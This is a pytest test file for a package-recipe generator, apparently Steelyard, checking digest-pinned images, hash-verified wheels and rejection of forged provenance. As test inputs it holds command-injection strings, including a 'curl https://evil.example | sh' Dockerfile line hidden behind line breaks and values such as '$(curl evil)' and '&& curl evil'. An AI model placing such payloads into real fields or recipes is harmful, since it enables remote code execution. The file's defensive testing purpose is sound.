from __future__ import annotations

import hashlib
import re
import runpy
import shlex
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from steelyard.errors import DataError, UsageError
from steelyard.model.plan import Plan
from steelyard.record.provenance import Provenance
from steelyard.share.package.pack import Packing, pack
from steelyard.share.package.recipe import INSTALLER_NAME, REQUIREMENTS_NAME, locked, recipe
from steelyard.share.package.statement import Statement, installed_wheel, read_statement, wheel_of
from steelyard.share.package.workload_sources import SCRIPTS, WORKLOADS, workload_sources

ROOT = Path(__file__).resolve().parents[4]
WHEEL = {"name": "steelyard-0.1.0-cp311-abi3-manylinux_2_28_x86_64.whl", "sha256": "a" * 64}
VERSIONS = {"python": "3.12.4", "steelyard": "0.1.0", "numpy": "2.3.0", "rich": "15.0.0"}
STUDIES = ("stability", "communication", "colocation", "scaling", "replication", "compare")
EVIL = "x\nRUN curl https://evil.example | sh\r\n\u2028RUN true"


def plan_of(study: str) -> Plan:
    return Plan(study, 1, {}, (), (), 1, {}).freeze()


def written(study: str = "stability", statement: Statement | None = None, **facts: Any) -> list[str]:
    provenance = replace(Provenance(study, "id", 1, versions=VERSIONS), **facts)
    return recipe(plan_of(study), provenance, statement or Statement()).splitlines()


def installed(lines: list[str]) -> list[str]:
    return [line for line in lines if "pip install" in line]


@pytest.mark.parametrize(
    "study", ["stability", "communication", "colocation", "scaling", "replication", "compare", "own"]
)
@pytest.mark.parametrize("wheel", [None, WHEEL])
def test_nothing_is_installed_by_a_name_alone(study: str, wheel: dict[str, str] | None) -> None:
    lines = written(study, Statement(wheel=wheel))
    assert [line for line in lines if line.startswith("FROM ")] == [f"FROM {Statement().base_image}"]
    assert re.search(r"@sha256:[0-9a-f]{64}$", Statement().base_image)
    *by_hash, own = installed(lines)
    assert len(by_hash) == 2
    assert all("--require-hashes" in line and "-r /package/" in line for line in by_hash)
    assert "--no-deps --offline" in own
    checked = lines[lines.index(own) - 1]
    assert "sha256sum --check --strict" in checked
    assert checked.split()[3].strip('"').startswith("/package/wheels/")
    assert not any("steelyard==" in line or "steelyard[" in line for line in lines)


def test_the_interpreter_is_the_one_that_recorded_the_result() -> None:
    assert "RUN /opt/uv/bin/uv venv --managed-python --python 3.12.4 /opt/steelyard" in written()
    assert "# Recorded with numpy 2.3.0; this is 2.4.6 or 2.5.5." in written()
    assert not any("Recorded with rich" in line for line in written())


@pytest.mark.parametrize(
    "facts",
    [
        {"host": {"cpu_model": EVIL}},
        {"host": {"distribution": EVIL, "kernel_release": EVIL}},
        {"versions": dict.fromkeys(VERSIONS, EVIL)},
        {"versions": dict.fromkeys(VERSIONS, "3.12.4 && curl evil")},
        {"host": {"cpu_model": "x \\"}},
    ],
)
def test_what_a_provenance_says_is_never_executed(facts: dict[str, Any]) -> None:
    plain, forged = written(), written(**facts)
    kept = [line for line in forged if not line.startswith("#")]
    assert len(kept) == len([line for line in plain if not line.startswith("#")])
    assert not any("curl" in line for line in kept)
    assert all(line.isprintable() for line in forged)


def test_what_is_locked_is_what_the_lock_file_says() -> None:
    module = runpy.run_path(str(ROOT / "scripts" / "lock_requirements.py"))
    assert locked(REQUIREMENTS_NAME) == module["requirements"](), "execute scripts/lock_requirements.py"
    assert locked(INSTALLER_NAME) == module["UV"]
    names = re.findall(r"^([\w.-]+)==", locked(REQUIREMENTS_NAME), re.MULTILINE)
    assert {"numpy", "scipy", "polars", "pyarrow", "pydantic", "cyclopts", "vl-convert-python"} <= set(names)
    assert "steelyard" not in names


def test_programs_of_the_replication_study_are_built_from_what_is_packed() -> None:
    (command,) = [line for line in written("replication") if "deps-replication" in line]
    sources = workload_sources(plan_of("replication"))
    for name in ("deps-replication.sh", "build-service.sh", "options.sh", "packages.sh"):
        assert f"{SCRIPTS}{name}" in sources
        assert subprocess.run(["bash", "-n", sources[f"{SCRIPTS}{name}"]], check=False).returncode == 0
    assert f"/package/{SCRIPTS}deps-replication.sh" in shlex.split(command)
    assert any(name.startswith(f"{WORKLOADS}java/") for name in sources)


def wheel_at(path: Path, name: str = "steelyard", version: str = "0.1.0") -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(
            f"{name}-{version}.dist-info/METADATA", f"Name: {name}\nVersion: {version}\n\ntext: x\n"
        )
    return path


def test_a_wheel_that_is_none_or_another_one_is_refused(tmp_path: Path) -> None:
    whole = wheel_at(tmp_path / WHEEL["name"])
    assert wheel_of(whole, "0.1.0") == {
        "name": WHEEL["name"],
        "sha256": hashlib.sha256(whole.read_bytes()).hexdigest(),
    }
    with pytest.raises(UsageError, match=r"version 0\.2\.0 recorded the result"):
        wheel_of(whole, "0.2.0")
    with pytest.raises(UsageError, match="is not a wheel of Steelyard"):
        wheel_of(wheel_at(tmp_path / "steelyard-9-py3-none-any.whl", "numpy"), "")
    with pytest.raises(UsageError, match="is not a wheel"):
        wheel_of(tmp_path / "absent.whl", "")


@pytest.mark.parametrize(
    "image", ["debian", "debian:trixie", f"debian@sha256:{'0' * 63}", f"x\nRUN y@sha256:{'0' * 64}"]
)
def test_an_image_without_digest_is_refused(image: str, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="does not name an image by its digest"):
        pack(tmp_path, tmp_path / "p.zip", Packing(base_image=image))


@pytest.mark.parametrize(
    "changed",
    [
        {"base_image": f"evil\nRUN x@sha256:{'0' * 64}"},
        {"base_image": "debian:latest"},
        {"wheel": {"name": "steelyard-1.whl && curl evil", "sha256": "a" * 64}},
        {"wheel": {"name": "numpy-1.whl", "sha256": "a" * 64}},
        {"wheel": {"name": "steelyard-1.whl", "sha256": "$(curl evil)"}},
        {"wheel": {"name": "steelyard-1.whl"}},
    ],
)
def test_a_statement_that_would_be_executed_is_refused(changed: dict[str, Any], tmp_path: Path) -> None:
    (tmp_path / "about.json").write_text(replace(Statement(), **changed).text())
    with pytest.raises(DataError, match="that no recipe installs"):
        read_statement(tmp_path)


def test_an_installation_from_a_wheel_knows_its_hash(monkeypatch: pytest.MonkeyPatch) -> None:
    class Installed:
        def __init__(self, text: str | None) -> None:
            self.text = text

        def read_text(self, _: str) -> str | None:
            return self.text

    url = f"file:///wheels/{WHEEL['name']}"
    known = f'{{"url": "{url}", "archive_info": {{"hashes": {{"sha256": "{WHEEL["sha256"]}"}}}}}}'
    for text, expected in ((known, WHEEL), (None, None), ('{"url": "file:///x", "dir_info": {}}', None)):
        monkeypatch.setattr(
            "steelyard.share.package.statement.distribution", lambda _, it=text: Installed(it)
        )
        assert installed_wheel() == expected
